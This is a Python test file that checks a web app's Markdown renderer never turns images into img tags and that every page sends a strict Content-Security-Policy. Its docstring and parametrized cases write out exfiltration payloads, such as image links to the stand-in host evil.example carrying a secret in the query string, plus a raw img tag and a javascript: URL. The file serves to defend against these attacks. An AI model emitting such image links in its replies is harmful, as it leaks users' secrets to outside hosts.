"""Issue 8, finding 10: Markdown image exfiltration and no Content-Security-Policy. A reply
could hold ``![x](https://attacker/?d=<secret>)`` and the browser fetched it on render. Now
no Markdown image becomes an <img> (it is a link the reader may open), and every response
carries a CSP forbidding inline script and images from other hosts (the browser test
tests/browser/test_csp.py checks the pages run under it with no violation)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sessions.rendering import markdown_html


@pytest.mark.parametrize("source", [
    "![leak](https://evil.example/p.png?d=SECRET)",
    "![leak](http://127.0.0.1:9999/p.png)",
    "![]( //evil.example/p.png )",
    "[![badge](https://evil.example/b.svg)](https://example.com)",
    "![ref][r]\n\n[r]: https://evil.example/r.png",
    '<img src="https://evil.example/raw.png">',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
])
def test_no_markdown_image_renders_as_an_image(source):
    html = markdown_html(source)
    assert "<img" not in html
    assert 'href="javascript' not in html and 'href="data:' not in html
    assert not re.search(r"<[^>]*\ssrc=", html)  # escaped text may say src=, no tag does


def test_an_image_becomes_a_labelled_link():
    html = markdown_html("see ![the chart](https://example.com/c.png)")
    assert '<a class="image-link" href="https://example.com/c.png"' in html
    assert "image: the chart</a>" in html
    assert 'rel="noopener noreferrer nofollow"' in html


@given(st.text(alphabet=st.sampled_from(list("![]()<>\"' /:.ximgsrc=\n`*_h")), max_size=80))
def test_no_input_yields_an_img_tag(text):
    assert "<img" not in markdown_html(text)


@pytest.mark.parametrize("path", ["/login/", "/", "/admin/login/"])
def test_every_page_sends_the_policy(client, db, path):
    response = client.get(path)
    policy = response.headers["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if d.strip())
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'"
    assert directives["img-src"] == "'self'"
    assert directives["style-src"] == "'self'"
    assert directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    assert "unsafe" not in policy


def test_templates_hold_no_inline_script_or_handler():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "templates"
    offenders = []
    for template in root.rglob("*.html"):
        text = template.read_text()
        if re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text) or re.search(
                r"\son[a-z]+\s*=", text) or "javascript:" in text:
            offenders.append(str(template.relative_to(root)))
    assert offenders == []
